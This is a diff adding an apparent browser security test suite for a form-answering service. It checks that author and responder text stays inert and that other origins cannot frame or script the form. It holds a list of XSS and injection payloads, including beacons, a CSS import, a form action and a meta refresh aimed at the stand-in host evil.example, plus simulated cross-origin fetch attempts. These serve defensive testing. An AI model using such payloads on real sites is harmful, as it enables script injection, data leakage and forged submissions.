@@ -1,0 +1,147 @@
+// Authors and machines that mean no good: their text stays text, and their visits change nothing.
+
+import assert from 'node:assert/strict';
+import { SERVER, ask, assertAnswered, assertPending, main, open, shot } from './lib.mjs';
+
+const ATTACKS = [
+  '<script>alert(1)</script>',
+  '"><img src=x onerror=alert(1)>',
+  "'-alert(1)-'",
+  '</title><script>alert(1)</script>',
+  '</textarea><svg onload=alert(1)>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<a href="javascript:alert(1)">x</a>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt&colon;alert(1))',
+  '[x](data:text/html,<script>alert(1)</script>)',
+  '![x](https://evil.example/beacon.png)',
+  '<img src="https://evil.example/beacon.png">',
+  '<style>@import url(https://evil.example/x.css); body{display:none}</style>',
+  '<form action="https://evil.example/"><input name=value><button>Send answer</button></form>',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+  '<base href="https://evil.example/">',
+  '<link rel=stylesheet href=https://evil.example/x.css>',
+  '<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
+  '<<script>script>alert(1)<</script>/script>',
+  '\u202egnp.exe\u202c \u2066hidden\u2069 \u200b\u0000\u0007',
+  '{{7*7}} ${7*7} <%= 7*7 %> {% raw %}',
+  '<!--<script>-->',
+  '&lt;script&gt;alert(1)&lt;/script&gt;',
+  '<x onclick=alert(1) style="position:fixed;inset:0;z-index:9">everything</x>',
+];
+
+/** What an event can carry, with the attack in every place that takes text. */
+function everywhere(attack) {
+  const line = attack.replace(/[\u0000-\u001f]/g, ' ');
+  return [
+    { str: {} },
+    { bool: { trueLabel: `${line}1`.slice(0, 200), falseLabel: `${line}2`.slice(0, 200) } },
+    { choice: { options: [{ value: line, label: line, description: line }, { value: 'b' }] } },
+    { object: { jsonSchema: JSON.stringify({
+      type: 'object',
+      properties: { [line.slice(0, 63)]: { type: 'string', title: line, description: line, default: line } },
+    }) } },
+  ].map((input) => ({
+    input,
+    more: {
+      name: line.slice(0, 200), prompt: `${attack}\n\nand so on`, scope: line.slice(0, 200), labels: { k: line },
+    },
+  }));
+}
+
+/** Checks that nothing of the author's became part of the page. */
+async function assertInert(page, faults, what) {
+  const found = await page.evaluate(() => ({
+    active: [...document.querySelectorAll('script, iframe, object, embed, img, svg, math, link, base, meta[http-equiv]')]
+      .map((element) => element.outerHTML),
+    handlers: [...document.querySelectorAll('*')]
+      .filter((element) => [...element.attributes].some(({ name }) => name.startsWith('on')))
+      .map((element) => element.outerHTML),
+    links: [...document.querySelectorAll('a[href]')].map((a) => a.protocol).filter((p) => !/^https?:|^mailto:/.test(p)),
+    forms: [...document.forms].map((form) => new URL(form.getAttribute('action') ?? '', document.baseURI).href),
+    styles: document.querySelectorAll('style').length,
+  }));
+  assert.deepEqual(found.active, [], what);
+  assert.deepEqual(found.handlers, [], what);
+  assert.deepEqual(found.links, [], what);
+  assert.ok(found.forms.every((action) => action.startsWith(SERVER)), `${what}: ${found.forms}`);
+  assert.ok(found.styles <= 1, `${what}: ${found.styles} style sheets`);
+  assert.deepEqual(faults, [], what);
+}
+
+await main({
+  'no text of an author becomes more than text': async (browser) => {
+    const { page, faults, close } = await open(browser);
+    for (const attack of ATTACKS) {
+      for (const promptFormat of ['PROMPT_FORMAT_TEXT', 'PROMPT_FORMAT_MARKDOWN']) {
+        for (const { input, more } of everywhere(attack)) {
+          const event = await ask(input, { ...more, promptFormat });
+          await page.goto(event.formUrl);
+          await assertInert(page, faults, `${promptFormat} ${attack}`);
+        }
+      }
+    }
+    await shot(page, 'hostile');
+    await close();
+  },
+
+  'no text of whoever answers becomes more than text': async (browser) => {
+    const { page, faults, close } = await open(browser);
+    for (const attack of ATTACKS.map((text) => text.replace(/[\u0000-\u001f]/g, ''))) {
+      const event = await ask({ str: {} });
+      await page.goto(event.formUrl);
+      await page.getByRole('textbox').first().fill(attack);
+      await page.locator('[name=responder]').fill(attack.slice(0, 200));
+      await page.getByRole('button', { name: 'Send answer' }).click();
+      await page.getByRole('heading', { name: /answered/i }).waitFor();
+      await assertInert(page, faults, attack);
+      await assertAnswered(event, { str: attack });
+    }
+    await close();
+  },
+
+  'a scanner that opens, waits, hovers and looks at every link leaves the event as it was': async (browser) => {
+    for (const input of [{ bool: {} }, { choice: { options: [{ value: 'a' }] } }, { str: {} }]) {
+      const event = await ask(input, {
+        prompt: '[read more](https://example.org/x)', promptFormat: 'PROMPT_FORMAT_MARKDOWN',
+      });
+      const { page, close } = await open(browser);
+      await page.goto(event.formUrl, { waitUntil: 'networkidle' });
+      for (const element of await page.locator('a, button, input, summary, label').all()) {
+        if (await element.isVisible()) await element.hover();
+      }
+      for (const link of await page.locator('a[href]').all()) {
+        const { rel } = await link.evaluate((a) => ({ rel: a.rel }));
+        assert.match(rel, /noreferrer/);
+      }
+      await page.reload();
+      await assertPending(event);
+      await close();
+    }
+  },
+
+  'a page of another origin can neither frame nor script the form': async (browser) => {
+    const event = await ask({ bool: {} });
+    const context = await browser.newContext();
+    const page = await context.newPage();
+    // Played by the browser itself: nothing leaves this machine.
+    await page.route('http://evil.example/**', (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe src="${event.formUrl}"></iframe>` }));
+    await page.goto('http://evil.example/');
+    const framed = page.frames().find((frame) => frame !== page.mainFrame());
+    assert.equal(await framed?.locator('form').count() ?? 0, 0, 'the form can be framed');
+    const stolen = await page.evaluate(async ([server, id]) => {
+      const attempts = [
+        [`${server}/v1/events`, {}],
+        [`${server}/v1/events/${id}/cancel`, { method: 'POST', body: '{}', headers: { 'content-type': 'application/json' } }],
+        [`${server}/v1/events/${id}/cancel`, { method: 'POST', body: '', mode: 'no-cors' }],
+        [`${server}/submit`, { method: 'POST', mode: 'no-cors', body: new URLSearchParams({ request_id: id, value: 'true' }) }],
+      ];
+      const replies = await Promise.all(attempts.map(([url, init]) => fetch(url, init).then((r) => r.text()).catch(() => '')));
+      return replies.join('');
+    }, [SERVER, event.id]);
+    assert.equal(stolen, '', 'a page of another origin reads a reply');
+    await assertPending(event);
+    await context.close();
+  },
+});
